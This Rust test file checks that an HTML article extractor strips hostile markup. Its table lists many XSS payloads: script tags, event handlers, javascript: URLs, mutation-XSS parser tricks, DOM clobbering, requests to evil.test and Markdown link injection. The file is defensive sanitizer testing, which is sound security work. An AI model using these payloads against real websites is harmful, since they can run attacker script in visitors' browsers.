//! Malicious markup in the middle of an article: scripts, dangerous URLs, requests, DOM clobbering. Nothing of it may be in the output, the
//! article around it stays, and cleaning the output again changes nothing.

use pith::page::html::{HtmlOptions, parse};
use pith::page::scan::scan;
use pith::rules::attr::Attr;
use pith::{Article, Options, Page, extract, output};

/// Hostile pieces, by what they try to do.
const PIECES: &[(&str, &[&str])] = &[
    (
        "run at once",
        &[
            "<script>alert(1)</script>",
            "<script src=//evil.test/a.js></script>",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
            "<details open ontoggle=alert(1)><summary>sum</summary>one</details>",
            "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
            "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
            "<object data='data:text/html,<script>alert(1)</script>'></object><embed src=javascript:alert(1)>",
            "<body onload=alert(1)><input autofocus onfocus=alert(1)>",
            "<marquee onstart=alert(1)>x</marquee><x-y onclick=alert(1) style='animation:a' onanimationend=alert(1)>z</x-y>",
        ],
    ),
    (
        "run on a click",
        &[
            "<a href=javascript:alert(1)>link</a>",
            "<a href=' &#1;java\nscript&colon;alert(1)'>link</a>",
            "<a href='JaVaScRiPt:alert(1)//http://ok.test'>link</a>",
            "<a href='data:text/html;base64,PHNjcmlwdD4='>link</a><a href=vbscript:x>link</a><a href=blob:http://a/b>link</a>",
            "<svg><a xlink:href=javascript:alert(1)><text y=9>link</text></a></svg>",
            "<math href=javascript:alert(1)><mi xlink:href=javascript:alert(1)>x</mi><maction actiontype=statusline#x>y</maction></math>",
            "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>go</button></form>",
            "<blockquote cite=javascript:alert(1)><p>Said.</p></blockquote><del cite=javascript:x>old</del>",
        ],
    ),
    (
        "be parsed otherwise the second time",
        &[
            "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
            "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'></svg>",
            "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
            "<select><template><style><!--</style><a rel='--><img src onerror=alert(1)>'></template></select>",
            "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;\n&lt;/code&gt;&lt;/pre&gt;&lt;img src=x onerror=alert(1)&gt;</code></pre>",
            "<textarea></textarea><img src=x onerror=alert(1)></textarea><xmp></xmp><img src=x onerror=alert(1)></xmp>",
            "<p title='&quot;&gt;&lt;img src=x onerror=alert(1)&gt;'>&lt;img src=x onerror=alert(1)&gt;</p>",
            "<table><caption><svg><desc><b><table></caption><td>cell<p></desc></svg>",
            "<![CDATA[<img src=x onerror=alert(1)>]]><?xml <img src=x onerror=alert(1)>?><!-- --!><img src=x onerror=alert(1)>",
            "<img alt=']]>&lt;svg onload=alert(1)>' src=/i.jpg width=400 height=300>",
        ],
    ),
    (
        "ask somebody",
        &[
            "<link rel=stylesheet href=//evil.test/a.css><style>@import '//evil.test/b.css'; p{background:url(//evil.test/c)}</style>",
            "<p style='background:url(//evil.test/d)'>styled</p><table background=//evil.test/e><tr><td>cell</table>",
            "<a href=/ok ping=//evil.test/f>pinged</a><meta http-equiv=refresh content='0;url=//evil.test/g'>",
            "<iframe src=https://www.youtube.com.evil.test/embed/a></iframe><portal src=//evil.test></portal>",
            "<img src=/i.jpg srcset='javascript:alert(1) 2x' width=400 height=300><img src='data:image/svg+xml,<svg onload=alert(1)>'>",
            "<input type=image src=//evil.test/h><audio autoplay src=//evil.test/i.mp3></audio><bgsound src=//evil.test/j>",
        ],
    ),
    (
        "take a name",
        &[
            "<p id=location>one</p><img name=body src=/i.jpg><a id=pith-fn-1 name=cookie href=#pith-fn-1>x</a>",
            "<h2 id=__proto__>Part</h2><h2 id='constructor'>Other</h2><form name=document><input name=attributes></form>",
            "<base href='javascript:alert(1)//'><a href='x'>relative</a>",
        ],
    ),
    (
        "be Markdown",
        &[
            "<p>[link](javascript:alert(1)) ![x](//evil.test/i) &lt;script&gt;alert(1)&lt;/script&gt;</p>",
            "<p>[a]: javascript:alert(1)</p><p># no heading</p><p>&lt;javascript:alert(1)&gt;</p>",
            "<a href='/x) [y](javascript:alert(1)'>]( javascript:alert(1)</a><img alt='](javascript:alert(1)) ![' src=/i.jpg width=400 height=300>",
            "<code>`</code><code>``&lt;img src=x onerror=alert(1)&gt;``</code><pre>```\n&lt;script&gt;</pre>",
        ],
    ),
];

/// Elements allowed in the output.
const ELEMENTS: &str = " html head body a abbr aside article b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt \
    em figcaption figure footer h2 h3 h4 h5 h6 hr header i img input ins kbd label li mark ol p pre q rp rt ruby s samp section small span strong \
    sub summary sup table tbody td tfoot th thead time tr u ul var wbr math mrow mi mn mo ms mtext mspace msup msub msubsup mfrac msqrt mroot \
    munder mover munderover mtable mtr mtd mstyle menclose mpadded mphantom mmultiscripts mprescripts semantics annotation merror none ";

/// Attributes whose value is a URL.
const ADDRESSES: &[Attr] = &[Attr::Href, Attr::Src, Attr::Cite, Attr::Poster];

fn text(i: usize) -> String {
    format!(
        "<p>The harbour lay still on day {i}, and the boats that had come in at night were tied up two by two, while somebody counted the nets.</p>"
    )
}

fn around(piece: &str) -> String {
    let (before, after): (String, String) = ((0..5).map(text).collect(), (5..10).map(text).collect());
    format!(
        "<!DOCTYPE html><html><head><title>Harbour</title></head><body><article><h1>Harbour</h1>{before}<div>{piece}</div>{after}</article></body></html>"
    )
}

fn page(html: &str) -> Page {
    parse(html.as_bytes(), &HtmlOptions { url: Some("https://example.org/a/b"), ..HtmlOptions::default() }).unwrap()
}

/// The article with everything on the page, so that every piece is tried.
fn whole(page: &Page) -> Article {
    let options = Options { keep: page.body().map(|body| page.origin(body)).into_iter().collect(), ..Options::default() };
    extract(page, &options).unwrap()
}

fn is_web(address: &str) -> bool {
    [
        "https://",
        "http://",
        "mailto:",
        "tel:",
        "#",
        "data:image/png",
        "data:image/jpeg",
        "data:image/gif",
        "data:image/webp",
        "data:image/avif",
    ]
    .iter()
    .any(|start| address.starts_with(start))
}

/// Violations in the HTML output, as read by our own parser.
fn faults(html: &str) -> Vec<String> {
    let page = page(&format!("<!DOCTYPE html><html><head></head><body>{html}</body></html>"));
    let mut faults = Vec::new();
    for node in page.nodes().filter(|node| !page.is_text(*node)) {
        let name = page.name(node);
        if !ELEMENTS.contains(&format!(" {name} ")) {
            faults.push(format!("element {name}"));
        }
        for (attr, value) in page.attrs(node) {
            if attr.starts_with("on")
                || matches!(attr, "style" | "srcdoc" | "formaction" | "action" | "ping" | "name" | "background" | "xlink:href")
            {
                faults.push(format!("{name} {attr}={value}"));
            }
            if attr == "id" && !value.starts_with("pith-") {
                faults.push(format!("{name} id={value}"));
            }
        }
        for attr in ADDRESSES {
            let address = page.attr(node, *attr).unwrap_or("https://");
            if !is_web(address) {
                faults.push(format!("{name} {attr:?} {address}"));
            }
        }
        if page.attr(node, Attr::Srcset).is_some_and(|srcset| srcset.contains("script:")) {
            faults.push(format!("{name} srcset"));
        }
    }
    faults
}

/// Markdown without code: fenced blocks, and text between equal runs of backticks.
fn without_code(markdown: &str) -> String {
    let mut fence = "";
    let mut out = String::new();
    for line in markdown.lines() {
        let ticks = &line[..line.len() - line.trim_start_matches('`').len()];
        if ticks.len() >= 3 && (fence.is_empty() || ticks == fence) {
            fence = if fence.is_empty() { ticks } else { "" };
        } else if fence.is_empty() {
            out.push_str(line);
            out.push('\n');
        }
    }
    let run = |at: &str| at.len() - at.trim_start_matches('`').len();
    let (mut rest, mut bare) = (out.as_str(), String::new());
    while let Some(at) = rest.find('`') {
        let (before, ticks) = rest.split_at(at);
        bare.push_str(before);
        let length = run(ticks);
        rest = &ticks[length..];
        let mut next = 0;
        let end = std::iter::from_fn(|| {
            let at = next + rest[next..].find('`')?;
            next = at + run(&rest[at..]);
            Some((at, next))
        })
        .find(|(at, next)| next - at == length);
        // Escaped backticks are ordinary characters.
        if let Some((_, next)) = end.filter(|_| !before.ends_with('\\')) {
            rest = &rest[next..];
        }
    }
    bare + rest
}

/// Violations in the Markdown output: a link to a script, an element outside of code.
fn markdown_faults(markdown: &str) -> Vec<String> {
    let lower = without_code(markdown).to_ascii_lowercase();
    let links = lower.match_indices("](").filter(|(at, _)| lower[at + 2..].trim_start_matches(['<', ' ']).starts_with("javascript:"));
    let elements = ["<script", "<img", "<iframe", "<svg", "<style", "<object", "<form"];
    let elements = elements.iter().flat_map(|element| lower.match_indices(element));
    let bare = links.chain(elements).filter(|(at, _)| !lower[..*at].ends_with('\\'));
    bare.map(|(at, _)| lower[at..].chars().take(60).collect()).collect()
}

#[test]
fn no_hostile_markup_survives_and_the_article_stays() {
    for (aim, pieces) in PIECES {
        for piece in *pieces {
            let article = whole(&page(&around(piece)));
            let (html, markdown, said) = (output::html(&article), output::markdown(&article), output::text(&article));
            assert_eq!(faults(&html), Vec::<String>::new(), "{aim}: {piece}\n{html}");
            assert_eq!(markdown_faults(&markdown), Vec::<String>::new(), "{aim}: {piece}\n{markdown}");
            assert!((0..5).all(|i| said.contains(&format!("on day {i},"))), "{aim}: {piece}\n{said}");
        }
    }
}

#[test]
fn footnotes_and_their_marks_are_no_links_in_markdown() {
    let written = |behind: &str, note: &str| {
        let text: String = (0..5).map(text).collect();
        let mark = format!("<p>Somebody counted.<sup><a href='#n' id=m>1</a></sup>{behind}</p>");
        let notes = format!("<section class=footnotes><ol><li id=n>{note} <a href='#m'>↩</a></li></ol></section>");
        output::markdown(&whole(&page(&format!("<title>Harbour</title><article><h1>Harbour</h1>{text}{mark}{text}{notes}</article>"))))
    };
    for (behind, note, expected) in [
        ("", "javascript:alert(1)", "\n[^1]: javascript:alert(1) &nbsp;\n"),
        ("", "https://example.org/", "\n[^1]: https://example.org/\n"),
        ("", "<pre>a\n\n&lt;img src=x></pre>", "\n[^1]:\n\n    ```\n    a\n\n    <img src=x>\n    ```\n"),
        ("(javascript:alert(1))", "Of the nets.", "counted.[^1]\\(javascript:alert(1))\n"),
        ("</p><p><sup><a href='#n'>1</a></sup>: javascript:alert(1)", "Of the nets.", "\n[^1]\\: javascript:alert(1)\n"),
    ] {
        let markdown = written(behind, note);
        assert!(markdown.contains(expected), "{expected}\n{markdown}");
    }
}

#[test]
fn code_behind_the_box_of_a_task_is_code_in_markdown() {
    let markdown = output::markdown(&whole(&page(&around("<ul><li><input type=checkbox><pre>a\n\n&lt;img src=x></pre></li></ul>"))));
    assert!(markdown.contains("\n- [ ]\n\n  ```\n  a\n\n  <img src=x>\n  ```\n"), "{markdown}");
}

#[test]
fn cleaning_is_idempotent() {
    for (aim, pieces) in PIECES {
        for piece in *pieces {
            let once = output::html(&whole(&page(&around(piece))));
            let document = format!("<!DOCTYPE html><html><head><title>Harbour</title></head><body>{once}</body></html>");
            assert_eq!(output::html(&whole(&page(&document))), once, "{aim}: {piece}");
            // The output is canonical HTML: both parsers read the same.
            assert_eq!(output::html(&whole(&scan(&document, Some("https://example.org/a/b")).unwrap())), once, "{aim}: {piece}");
        }
    }
}

#[test]
fn metadata_is_plain_text_and_web_urls() {
    let script = "javascript:alert(1)";
    let head = format!(
        "<title>Harbour\u{202e} &lt;img src=x onerror=alert(1)&gt;</title><link rel=canonical href='{script}'><link rel=next href='{script}'>\
         <link rel=icon href='{script}'><link rel=license href='{script}'><meta property=og:image content='{script}'><meta property=og:url content='data:text/html,x'>\
         <script type=application/ld+json>{{\"@type\":\"Article\",\"image\":\"{script}\",\"url\":\"{script}\",\"author\":{{\"name\":\"Ann\",\"url\":\"{script}\"}}}}</script>"
    );
    let article = extract(&page(&around("").replace("<title>Harbour</title>", &head)), &Options::default()).unwrap();
    let meta = &article.meta;
    for address in [&meta.canonical_url, &meta.next_url, &meta.favicon, &meta.license, &meta.image].into_iter().flatten() {
        assert!(is_web(&address.value), "{}", address.value);
    }
    assert!(meta.title.as_ref().is_none_or(|title| !title.value.contains('\u{202e}')), "{:?}", meta.title);
}
